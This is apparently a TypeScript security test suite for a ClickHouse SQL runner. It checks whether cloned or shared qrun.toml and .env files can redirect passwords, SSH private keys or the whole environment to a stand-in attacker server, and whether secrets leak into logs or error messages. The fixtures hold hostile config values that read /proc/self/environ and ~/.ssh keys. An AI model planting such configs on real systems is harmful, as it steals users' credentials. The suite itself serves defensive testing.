import { execFileSync } from 'node:child_process';
import { createServer } from 'node:https';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { answer, queries, status } from './evil.js';
import { ATTACKER, type Trial, VICTIM, verdict, type World, why } from './world.js';

const SECRET = 'victim-pw-123';
const SQL = { 'sql/q.sql': 'SELECT 1 AS a' };
// Those that open a connection: also those that sound as if they did not.
const COMMANDS = [['doctor'], ['unit', 'sql'], ['probe'], ['submit-all', 'sql', '--dry-run']];

interface Given {
  /** A configuration that names the server. */
  readonly files: (url: string) => Readonly<Record<string, string>>;
  readonly env?: Readonly<Record<string, string>>;
  readonly secrets?: readonly string[];
  readonly prepare?: (world: World) => void;
}

// A clone whose own files say where to connect and with which secret.
async function leak(world: World, { files, env = {}, secrets = [SECRET], prepare }: Given) {
  const evil = await world.evil();
  prepare?.(world);
  const cwd = world.clone('clone', { ...SQL, ...files(evil.url) });
  let last = '';
  for (const command of COMMANDS) {
    const ended = await world.qrun(command, { cwd, env });
    const got = secrets.find(secret => evil.told().includes(secret));
    if (got !== undefined) return verdict(true, `${command.join(' ')} sent it`);
    last = why(ended);
  }
  return verdict(false, `${COMMANDS.length} commands sent nothing (${last})`);
}

/** Where secrets go, and where they are shown. */
export const SECRETS: readonly Trial[] = [
  {
    name: 'a password of the environment goes to the server that a cloned qrun.toml names',
    run: world =>
      leak(world, {
        files: url => ({ 'qrun.toml': `url = "${url}"\n` }),
        env: { CLICKHOUSE_PASSWORD: SECRET },
      }),
  },
  {
    name: 'a password of the environment goes to the server that a cloned .env names',
    run: world =>
      leak(world, {
        files: url => ({ '.env': `CLICKHOUSE_URL=${url}\n` }),
        env: { CLICKHOUSE_PASSWORD: SECRET },
      }),
  },
  {
    name: 'a password file that the environment names goes to the server of a cloned qrun.toml',
    run: world =>
      leak(world, {
        files: url => ({ 'qrun.toml': `url = "${url}"\n` }),
        prepare: ({ put }) => put.call(world, 'home/pw', `${SECRET}\n`, 0o600),
        env: { CLICKHOUSE_PASSWORD_FILE: join(world.home, 'pw') },
      }),
  },
  {
    name: 'the whole environment goes out as the password file of a cloned qrun.toml',
    run: world =>
      leak(world, {
        files: url => ({ 'qrun.toml': `url = "${url}"\npassword_file = "/proc/self/environ"\n` }),
        env: { GITHUB_TOKEN: 'ghp_victimtoken' },
        secrets: ['ghp_victimtoken'],
      }),
  },
  {
    name: 'a private key goes out as the password file of a cloned qrun.toml',
    run: world =>
      leak(world, {
        files: url => ({ 'qrun.toml': `url = "${url}"\npassword_file = "../home/.ssh/id_ed25519"\n` }),
        prepare: ({ put }) => put.call(world, 'home/.ssh/id_ed25519', 'KEYKEYKEY\n', 0o600),
        secrets: ['KEYKEYKEY'],
      }),
  },
  {
    name: 'a private key goes out through a link in the clone that is its password file',
    run: async world => {
      const evil = await world.evil();
      world.put('home/.ssh/id_ed25519', 'KEYKEYKEY\n', 0o600);
      const toml = `url = "${evil.url}"\npassword_file = "pw"\n`;
      const cwd = world.clone('clone', { ...SQL, 'qrun.toml': toml }, { pw: '../home/.ssh/id_ed25519' });
      const ended = await world.qrun(['doctor'], { cwd });
      return verdict(evil.told().includes('KEYKEYKEY'), why(ended));
    },
  },
  {
    name: 'the whole environment goes out as the password file of a cloned .env',
    run: world =>
      leak(world, {
        files: url => ({ '.env': `CLICKHOUSE_URL=${url}\nCLICKHOUSE_PASSWORD_FILE=/proc/self/environ\n` }),
        env: { GITHUB_TOKEN: 'ghp_victimtoken' },
        secrets: ['ghp_victimtoken'],
      }),
  },
  {
    name: 'a qrun.toml of another user above a directory of mine sends my private key to his server',
    run: async world => {
      const evil = await world.evil();
      const key = world.put('home/id_rsa', 'KEYKEYKEY\n', 0o600, VICTIM);
      world.directory('shared', 0o1777);
      world.put('shared/qrun.toml', `url = "${evil.url}"\npassword_file = "${key}"\n`, 0o644, ATTACKER);
      const cwd = world.directory('shared/work', 0o755, VICTIM);
      world.put('shared/work/sql/q.sql', 'SELECT 1 AS a');
      world.give('shared/work', VICTIM);
      const ended = await world.qrun(['unit', 'sql'], { cwd, user: VICTIM });
      return verdict(evil.seen.length > 0, `${evil.seen.length} requests; ${why(ended)}`);
    },
  },
  {
    name: 'a .env of another user beside a unit of mine sends my queries and my password to his server',
    run: async world => {
      const evil = await world.evil();
      world.directory('shared', 0o1777);
      world.put('shared/.env', `CLICKHOUSE_URL=${evil.url}\n`, 0o644, ATTACKER);
      world.put('shared/sql2/q.sql', 'SELECT 1 AS a');
      world.give('shared/sql2', VICTIM);
      const env = { CLICKHOUSE_PASSWORD: SECRET };
      const cwd = world.directory('elsewhere', 0o755, VICTIM);
      const ended = await world.qrun(['unit', join(world.root, 'shared/sql2')], { cwd, user: VICTIM, env });
      return verdict(evil.seen.length > 0, `${evil.seen.length} requests; ${why(ended)}`);
    },
  },
  {
    name: 'credentials that stand in SQL come back in error messages (the embedded engine)',
    run: async world => {
      world.put('sql/a.sql', "CREATE USER bob IDENTIFIED WITH sha256_password BY 'SQLSECRET1' FROMM x");
      world.put('sql/b.sql', "SELECT * FROMM s3('http://h/b', 'AKIAKEY', 'SQLSECRET2', 'CSV')");
      const ended = await world.qrun(['unit', 'sql', '--events', 'events', '--halt', 'same=off'], {});
      const shown = ['results', 'events'].map(name => world.readAll(name)).join('') + ended.said;
      if (!shown.includes('SYNTAX_ERROR')) return { state: 'left out', saw: why(ended) };
      return verdict(/SQLSECRET/.test(shown), why(ended));
    },
  },
  {
    name: 'credentials that stand in SQL come back in error messages (a server)',
    run: async world => {
      const quoting = queries((sql, response) =>
        status(400, `Code: 62. DB::Exception: Syntax error: failed at position 9: ${sql}. (SYNTAX_ERROR)`)(
          sql,
          response,
        ),
      );
      const server = await world.evil(quoting, true);
      world.put('sql/a.sql', "CREATE USER bob IDENTIFIED BY 'SQLSECRET1' FROMM x");
      const ended = await world.qrun(['unit', 'sql', '--url', server.url, '--events', 'events']);
      const shown = ['results', 'events'].map(name => world.readAll(name)).join('') + ended.said;
      return verdict(!shown.includes('SYNTAX_ERROR') || shown.includes('SQLSECRET1'), why(ended));
    },
  },
  {
    name: 'a password in the parameters of a URL is stored for the tasks of a sweep',
    run: async world => {
      world.put('sql/q.sql', 'SELECT 1 AS a');
      const env = { CLICKHOUSE_URL: 'http://127.0.0.1:9/?user=sweep&password=PWINQUERY' };
      const ended = await world.qrun(['submit-all', 'sql'], { env });
      const kept = ['.qrun', 'sql', 'results'].map(name => world.readAll(name)).join('');
      return verdict(kept.includes('PWINQUERY') || ended.said.includes('PWINQUERY'), why(ended));
    },
  },
  ...[
    ['of the command line', ['--param', 'api_token=PWPARAM99'], ''],
    ['of qrun.toml', [], '[parameters]\napi_token = "PWPARAM99"\n'],
  ].map(
    ([where, args, toml]): Trial => ({
      name: `a parameter ${String(where)} that is named as a secret is recorded in log, sidecar and file names`,
      run: async world => {
        world.put('u/sql/q.sql', 'SELECT {api_token:String} AS a');
        world.put('u/qrun.toml', String(toml));
        const ended = await world.qrun(['unit', 'sql', ...(args as string[])], {
          cwd: join(world.root, 'u'),
        });
        const kept =
          world.readAll('u/results') + execFileSync('ls', ['-R', world.root], { encoding: 'utf8' });
        return verdict(kept.includes('PWPARAM99') || ended.said.includes('PWPARAM99'), why(ended));
      },
    }),
  ),
  {
    name: 'a password that stands where an option has none is shown',
    run: async world => {
      world.put('sql/q.sql', 'SELECT 1 AS a');
      const tries = [
        ['unit', 'sql', '-pZQSECRETZQ'],
        ['unit', 'sql', '--password-file', 'ZQSECRETZQ'],
        ['unit', 'sql', '--url', 'http://127.0.0.1:9/?password=ZQ@ZQSECRETZQ'],
        ['unit', 'sql', '--password', 'ZQSECRETZQ'],
      ];
      const shown: string[] = [];
      for (const args of tries) {
        const { said } = await world.qrun(args);
        if (said.includes('ZQSECRETZQ')) shown.push(args.slice(2).join(' '));
      }
      return verdict(shown.length > 0, shown.length === 0 ? 'four ways, none shows it' : shown.join(', '));
    },
  },
  {
    name: 'a password goes over http:// to another machine without a word',
    run: async world => {
      const server = await world.evil();
      world.put('sql/q.sql', 'SELECT 1 AS a');
      const env = { CLICKHOUSE_PASSWORD: SECRET };
      const ended = await world.qrun(['unit', 'sql', '--url', server.url], { env });
      if (!server.told().includes(SECRET)) return verdict(false, `not sent; ${why(ended)}`);
      return verdict(!/https|encrypt|clear|plain/i.test(ended.stderr), 'sent, and said on standard error');
    },
  },
  {
    name: 'NODE_TLS_REJECT_UNAUTHORIZED=0 switches the verification of certificates off',
    run: async world => {
      const [key, cert] = [join(world.root, 'key'), join(world.root, 'cert')];
      const request = ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-subj', '/CN=other', '-days', '1'];
      execFileSync('openssl', [...request, '-keyout', key, '-out', cert], { stdio: 'ignore' });
      let told = '';
      const options = { key: world.read('key'), cert: world.read('cert') };
      const server = createServer(options, (incoming, response) => {
        told += incoming.headers.authorization ?? 'a request';
        answer(response, '{"v":"25.1.1"}\n');
      });
      await new Promise<void>(resolve => server.listen(0, '127.0.0.1', resolve));
      world.put('sql/q.sql', 'SELECT 1 AS a');
      const { port } = server.address() as AddressInfo;
      const env = { NODE_TLS_REJECT_UNAUTHORIZED: '0', NODE_NO_WARNINGS: '1', CLICKHOUSE_PASSWORD: SECRET };
      const url = `https://127.0.0.1:${port}`;
      const ended = await world.qrun(['unit', 'sql', '--url', url, '--max-outage', '1s'], { env });
      server.close();
      return verdict(told !== '', why(ended));
    },
  },
  {
    name: 'a ca_file of a cloned qrun.toml decides whom a URL of the environment believes',
    run: async world => {
      const [key, cert] = [join(world.root, 'key'), join(world.root, 'clone/ca.pem')];
      world.clone('clone', { ...SQL, 'qrun.toml': 'ca_file = "ca.pem"\n' });
      const request = ['req', '-x509', '-newkey', 'rsa:2048', '-nodes', '-subj', '/CN=x', '-days', '1'];
      const name = ['-addext', `subjectAltName=IP:${world.host}`];
      execFileSync('openssl', [...request, ...name, '-keyout', key, '-out', cert], { stdio: 'ignore' });
      let told = '';
      const options = { key: world.read('key'), cert: world.read('clone/ca.pem') };
      const server = createServer(options, (incoming, response) => {
        told += incoming.headers.authorization ?? 'a request';
        answer(response, '{"v":"25.1.1"}\n');
      });
      await new Promise<void>(resolve => server.listen(0, world.host, resolve));
      const { port } = server.address() as AddressInfo;
      const env = { CLICKHOUSE_URL: `https://${world.host}:${port}`, CLICKHOUSE_PASSWORD: SECRET };
      const cwd = join(world.root, 'clone');
      const ended = await world.qrun(['unit', 'sql', '--max-outage', '1s'], { cwd, env });
      server.close();
      return verdict(told !== '', why(ended));
    },
  },
];
